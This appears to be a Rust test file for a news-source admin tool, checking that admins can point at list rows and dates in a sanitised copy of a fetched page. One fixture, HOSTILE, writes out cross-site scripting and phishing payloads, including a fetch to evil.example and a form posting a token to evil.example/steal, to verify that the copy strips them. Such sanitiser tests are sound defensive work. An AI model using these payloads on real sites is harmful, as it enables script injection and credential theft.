//! Tests that an admin points at the correct row, title or date in a copy of the page, and sees the result: by plain
//! HTTP, without scripts. Its copy is harmless, regardless of the page's content.

use noticast::bulletin::AllowPrivate;
use regex::Regex;
use serde_json::{Value, json};

use crate::{
    at_the_desk::{Browser, beside_a_site},
    support::{
        board::Mood,
        desk::config,
        site::{Answer, Site},
    },
};

/// A text of the copy, and the selectors of its button.
#[derive(Debug)]
struct Shown {
    text: String,
    picks: String,
    is_found: bool,
}

fn plain(html: &str) -> String {
    let marks = [
        ("&lt;", "<"),
        ("&gt;", ">"),
        ("&quot;", "\""),
        ("&#39;", "'"),
        ("&amp;", "&"),
    ];
    marks.iter().fold(html.to_owned(), |text, (mark, sign)| {
        text.replace(mark, sign)
    })
}

fn buttons(copy: &str) -> Vec<Shown> {
    let button = r#"<button type="submit" name="pick" value="([^"]*)"([^>]*)>([^<]*)</button>"#;
    let button = Regex::new(button).unwrap();
    let shown = button.captures_iter(copy).map(|found| Shown {
        text: plain(&found[3]),
        picks: plain(&found[1]),
        is_found: found[2].contains("found"),
    });
    shown.collect()
}

fn picks(copy: &str, text: &str) -> String {
    let all = buttons(copy);
    let found = all.iter().find(|shown| shown.text.contains(text));
    found
        .unwrap_or_else(|| panic!("{text}: {all:#?}"))
        .picks
        .clone()
}

fn query(fields: &[(&str, &str)]) -> String {
    let mut query = url::form_urlencoded::Serializer::new(String::new());
    query.extend_pairs(fields);
    query.finish()
}

/// Returns the copy that a page of the desk shows.
async fn copied(browser: &Browser, preview: &str) -> String {
    let frame = preview
        .split("<iframe class=\"copy\" src=\"")
        .nth(1)
        .unwrap_or_else(|| panic!("{preview}"));
    assert!(frame.contains("sandbox=\"allow-forms allow-top-navigation-by-user-activation\""));
    let src = plain(frame.split('"').next().unwrap());
    let path = src.trim_start_matches("../").split('#').next().unwrap();
    browser.page(&format!("/{path}")).await
}

#[tokio::test]
async fn the_right_list_and_its_dates_are_pointed_at_and_kept() {
    let (site, browser) = beside_a_site(6).await;
    site.set_mood(Mood::TwoLists);
    let url = site.list_url();
    let typed = [("url", url.as_str()), ("name", "要闻"), ("to", "terminal")];
    let preview = browser
        .submit("/admin/add-source", &typed)
        .await
        .text()
        .await
        .unwrap();
    let copy = copied(&browser, &preview).await;
    let found = buttons(&copy).into_iter().filter(|shown| shown.is_found);
    assert_eq!(found.count(), 6, "what is found now is marked: {copy}");

    let pick = picks(&copy, "第8次工作会议");
    let pointed = query(&[typed.as_slice(), &[("pick", &pick)]].concat());
    let shown = browser.page(&format!("/admin/add-source?{pointed}")).await;
    let rows = shown.split("</table>").next().unwrap();
    assert_eq!(rows.matches("次工作会议").count(), 8, "{rows}");
    assert!(
        shown.contains("name=\"to\" value=\"terminal\""),
        "what was typed stays: {shown}"
    );
    let item = shown.split("name=\"select.item\" value=\"").nth(1).unwrap();
    let item = plain(item.split('"').next().unwrap());

    let copy = copied(&browser, &shown).await;
    let dated = buttons(&copy)
        .into_iter()
        .find(|it| it.picks.contains("\"date\":\"em\""))
        .unwrap();
    assert!(dated.text.starts_with("20"), "{dated:?}");
    let fields = [("select.item", item.as_str()), ("pick", &dated.picks)];
    let pointed = query(&[typed.as_slice(), &fields].concat());
    let shown = browser.page(&format!("/admin/add-source?{pointed}")).await;
    assert!(
        shown.contains("name=\"select.date\" value=\"em\""),
        "{shown}"
    );

    let sure = [
        ("select.item", item.as_str()),
        ("select.date", "em"),
        ("sure", "yes"),
    ];
    let added = browser
        .submit("/admin/add-source", &[typed.as_slice(), &sure].concat())
        .await;
    assert_eq!(added.status(), 303);
    let known = || browser.desk.store.added_sources().borrow()[0].keys.clone();
    assert_eq!(known()["select"], json!({ "item": item, "date": "em" }));

    // The same when it is edited later: another list replaces all selectors.
    let path = added.headers()["location"]
        .to_str()
        .unwrap()
        .split('?')
        .next()
        .unwrap()
        .to_owned();
    let edit = format!("{path}/edit");
    let again = [
        ("url", url.as_str()),
        ("select.item", &item),
        ("select.date", "em"),
    ];
    let preview = browser.submit(&edit, &again).await.text().await.unwrap();
    let copy = copied(&browser, &preview).await;
    let action = format!("action=\"..{edit}\"");
    assert!(copy.contains(&action), "{action}: {copy}");
    let pick = picks(&copy, "第6期");
    let pointed = query(&[again.as_slice(), &[("pick", &pick)]].concat());
    let shown = browser.page(&format!("{edit}?{pointed}")).await;
    assert!(
        shown.contains("第6期") && !shown.contains("name=\"select.date\" value=\"em\""),
        "{shown}"
    );
    assert_eq!(
        known()["select"]["item"],
        json!(item),
        "nothing is kept by pointing"
    );
}

#[tokio::test]
async fn a_source_that_lost_its_list_is_mended_by_pointing() {
    let (site, browser) = beside_a_site(6).await;
    let url = site.list_url();
    let add = [("url", url.as_str()), ("name", "校办"), ("sure", "yes")];
    let added = browser.submit("/admin/add-source", &add).await;
    let path = added.headers()["location"].to_str().unwrap();
    let edit = format!("{}/edit", path.split('?').next().unwrap());
    site.set_mood(Mood::Menu);
    let lost = browser.submit(&edit, &[("url", url.as_str())]).await;
    assert_eq!(lost.status(), 422);
    let copy = copied(&browser, &lost.text().await.unwrap()).await;
    let pick = picks(&copy, "第6期");
    let pointed = query(&[("url", url.as_str()), ("pick", &pick)]);
    let shown = browser.page(&format!("{edit}?{pointed}")).await;
    assert!(
        shown.contains("name=\"sure\"") && shown.contains("第6期"),
        "{shown}"
    );
}

const HOSTILE: &str = r#"<html><head><base href="https://evil.example/" target="_top"><title>x</title>
<meta http-equiv="refresh" content="0;url=https://evil.example/"><style>body{background:url(https://evil.example/s)}</style>
<script>fetch("https://evil.example/")</script></head><body onload="alert(1)">
<form action="https://evil.example/steal"><input name="token"><button>登录</button></form>
<iframe src="https://evil.example/frame"></iframe><object data="https://evil.example/o"></object>
<svg onload="alert(2)"><script>alert(3)</script></svg><img src="https://evil.example/i" onerror="alert(4)">
<ul class="a&quot;><script>alert(5)</script>" id="'><img src=x>">
ROWS</ul><a href="javascript:alert(6)">点我</a><textarea></form><script>alert(7)</script></textarea>
<template><script>alert(8)</script></template><!-- --!><script>alert(9)</script> --></body></html>"#;

#[tokio::test]
async fn a_hostile_page_is_harmless_in_its_copy() {
    let mut config = config();
    config.fetch.allow_private = AllowPrivate::Yes;
    let browser = Browser::signed_in_with(config).await;
    let site = Site::start().await;
    let row = |n: u32| {
        format!(
            "<li><a href=\"/n/{n}.html\" style=\"position:fixed\" onclick=\"alert({n})\">关于第{n}号&lt;/button&gt;&lt;script&gt;alert(0)&lt;/script&gt;\u{202e}的通知</a>\
             <i>2022-11-{n:02}</i></li>"
        )
    };
    let rows: String = (10..20).map(row).collect();
    let giant = format!(
        "<li><a href=\"/n/9.html\">{}</a></li>",
        "长".repeat(100_000)
    );
    site.serve("/", Answer::page(HOSTILE.replace("ROWS", &(rows + &giant))));
    let asked = query(&[("url", site.url.as_str())]);
    let answer = browser.get(&format!("/admin/page-copy?{asked}")).await;
    assert_eq!(answer.status(), 200);
    let rules = answer.headers()["content-security-policy"]
        .to_str()
        .unwrap();
    for rule in [
        "sandbox allow-forms",
        "default-src 'none'",
        "frame-ancestors 'self'",
        "form-action 'self'",
    ] {
        assert!(rules.contains(rule), "{rules}");
    }
    assert!(
        !rules.contains("allow-scripts") && !rules.contains("unsafe"),
        "{rules}"
    );
    assert_eq!(answer.headers()["x-frame-options"], "SAMEORIGIN");
    let copy = answer.text().await.unwrap();
    assert!(
        copy.contains("关于第10号&lt;/button&gt;&lt;script&gt;"),
        "{copy}"
    );
    assert!(copy.len() < 100_000, "{}", copy.len());
    // Only our own tags and attributes are in it.
    let tag = Regex::new(r"<([a-z]+)((?:[^>\x22]|\x22[^\x22]*\x22)*)>").unwrap();
    let name = Regex::new(r"([a-z-]+)=\x22").unwrap();
    let (tags, names) = (
        [
            "html", "head", "meta", "title", "style", "body", "form", "input", "div", "button",
            "span", "p",
        ],
        [
            "lang", "charset", "name", "content", "method", "action", "target", "type", "value",
            "class", "dir", "id",
        ],
    );
    for found in tag.captures_iter(&copy) {
        assert!(tags.contains(&&found[1]), "{}", &found[0]);
        for named in name.captures_iter(&found[2]) {
            let within = found[2]
                .split('"')
                .step_by(2)
                .any(|it| it.contains(&named[1]));
            assert!(!within || names.contains(&&named[1]), "{}", &found[0]);
        }
    }
    assert_eq!(copy.matches("<form ").count(), 1);
    assert!(
        !copy.contains("evil.example") && !copy.contains("javascript:"),
        "{copy}"
    );
    // Each of its buttons leads to a page of ours.
    for shown in buttons(&copy).iter().take(30) {
        let picks: Value = serde_json::from_str(&shown.picks).unwrap();
        assert!(picks["item"].is_string(), "{shown:?}");
        let pointed = query(&[("url", site.url.as_str()), ("pick", &shown.picks)]);
        let answer = browser.get(&format!("/admin/add-source?{pointed}")).await;
        assert!(
            [200, 422].contains(&answer.status().as_u16()),
            "{shown:?}: {}",
            answer.status()
        );
        let page = answer.text().await.unwrap();
        assert!(!page.contains("<script>alert"), "{page}");
    }
}

#[tokio::test]
async fn a_copy_is_for_admins_alone_and_of_no_inner_page() {
    let mut browser = Browser::signed_in().await;
    let inner = query(&[("url", "http://127.0.0.1:9/")]);
    let copy = browser.page(&format!("/admin/page-copy?{inner}")).await;
    assert!(
        copy.contains("allow_private") && buttons(&copy).is_empty(),
        "{copy}"
    );
    let configured = query(&[("url", "https://www.example.com/"), ("of", "news")]);
    let refused = browser.get(&format!("/admin/page-copy?{configured}")).await;
    assert_eq!(refused.status(), 409);
    let wrong = query(&[("url", "https://www.example.com/"), ("pick", "[[[")]);
    let refused = browser.get(&format!("/admin/add-source?{wrong}")).await;
    assert!(refused.status().is_client_error(), "{}", refused.status());
    browser.cookie.clear();
    let answer = browser.get(&format!("/admin/page-copy?{inner}")).await;
    assert_eq!(answer.headers()["location"], "/admin/sign-in");
}
